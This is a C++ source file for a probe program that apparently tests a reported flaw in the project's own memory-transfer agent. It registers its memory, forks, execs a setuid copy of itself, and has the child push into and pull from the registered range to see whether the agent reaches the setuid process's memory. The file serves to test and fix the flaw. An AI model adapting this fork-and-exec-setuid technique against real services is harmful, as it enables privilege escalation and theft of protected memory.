// The attack of issue 35's first finding, as a program: an admitted user
// registers its own memory by address, forks, and the parent runs a setuid
// program while the child, which keeps the session, pushes from and pulls
// into the registered range. Built without PIE, so that `g_secret` lies at the
// same address in the attacker and in the setuid copy of this very program
// (the victim): whatever the agent would reach there after the exec is the
// setuid process's memory.
//
//   exec_setuid_probe attack ENDPOINT SETUID_COPY   (run as the admitted user)
//   exec_setuid_probe victim READY_FD DONE_FD       (run by the exec, setuid)
//
// Output lines, in order: "push: STATUS TEXT", "pull: STATUS TEXT" from the
// child, then "victim: euid N intact|overwritten" from the setuid process.
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "xfer/wire/messages.h"
#include "xfer/wire/protocol.h"

namespace proto = ferry::xfer::proto;

alignas(4096) char g_secret[4096];

namespace {

int victim(int ready_fd, int done_fd) {
  std::memset(g_secret, 'S', sizeof(g_secret));
  (void)!::write(ready_fd, "r", 1);
  char c;
  (void)!::read(done_fd, &c, 1);  // the attacker's child has done its transfers (or exited)
  bool intact = true;
  for (char b : g_secret) intact = intact && b == 'S';
  std::printf("victim: euid %u %s\n", static_cast<unsigned>(geteuid()), intact ? "intact" : "overwritten");
  return 0;
}

// Sends one transfer of the whole range and prints "LABEL: STATUS TEXT".
void transfer(proto::FrameSocket& sock, std::uint64_t region, ferry::xfer::XferOp op, const char* key,
              std::uint64_t request, const char* label) {
  proto::TransferMsg t;
  t.request = request;
  t.op = op;
  t.descs.push_back({region, 0, sizeof(g_secret), key});
  std::string status = "no-reply", text;
  if (sock.send(proto::encode(t))) {
    if (auto f = sock.recv(); f && f->type == proto::Type::TransferDone) {
      proto::TransferDone done;
      if (proto::decode(f->body, &done)) {
        status = ferry::xfer::to_string(done.status);
        if (!done.results.empty()) text = done.results.front().error;
      }
    }
  }
  std::printf("%s: %s %s\n", label, status.c_str(), text.c_str());
  std::fflush(stdout);
}

int attack(const std::string& endpoint, const char* setuid_copy) {
  std::memset(g_secret, 'A', sizeof(g_secret));
  auto sock = proto::connect_to(proto::Endpoint::parse(endpoint), 5000);
  if (!sock.send(proto::encode(proto::Hello{proto::kVersion, "exec-setuid-probe"}))) return 2;
  if (auto ok = sock.recv(); !ok || ok->type != proto::Type::HelloOk) return 2;
  proto::RegisterMsg m;
  m.call = 1;
  m.reach = proto::Reach::ProcessMemory;
  m.offset = reinterpret_cast<std::uint64_t>(g_secret);
  m.len = sizeof(g_secret);
  m.owner_pid = static_cast<std::uint32_t>(getpid());
  proto::RegisterOk reg;
  if (!sock.send(proto::encode(m))) return 2;
  if (auto f = sock.recv(); !f || f->type != proto::Type::RegisterOk || !proto::decode(f->body, &reg)) {
    proto::CallReply why;
    std::printf("register refused: %s\n", f && proto::decode(f->type, f->body, &why) ? why.text.c_str() : "");
    return 2;
  }
  transfer(sock, reg.region, ferry::xfer::XferOp::Write, "payload", 1, "setup");
  int ready[2], done[2];
  if (::pipe(ready) != 0 || ::pipe(done) != 0) return 2;
  std::fflush(stdout);
  const pid_t child = ::fork();
  if (child < 0) return 2;
  if (child > 0) {
    ::close(ready[0]);
    ::close(done[1]);
    const std::string r = std::to_string(ready[1]), d = std::to_string(done[0]);
    ::execl(setuid_copy, setuid_copy, "victim", r.c_str(), d.c_str(), static_cast<char*>(nullptr));
    std::perror("exec");
    return 2;
  }
  ::close(ready[1]);
  ::close(done[0]);
  char c;
  if (::read(ready[0], &c, 1) != 1) return 2;
  transfer(sock, reg.region, ferry::xfer::XferOp::Write, "stolen", 2, "push");
  transfer(sock, reg.region, ferry::xfer::XferOp::Read, "payload", 3, "pull");
  (void)!::write(done[1], "d", 1);
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc == 4 && std::strcmp(argv[1], "victim") == 0) return victim(std::atoi(argv[2]), std::atoi(argv[3]));
  if (argc == 4 && std::strcmp(argv[1], "attack") == 0) return attack(argv[2], argv[3]);
  std::fprintf(stderr, "usage: exec_setuid_probe attack ENDPOINT SETUID_COPY\n");
  return 2;
}
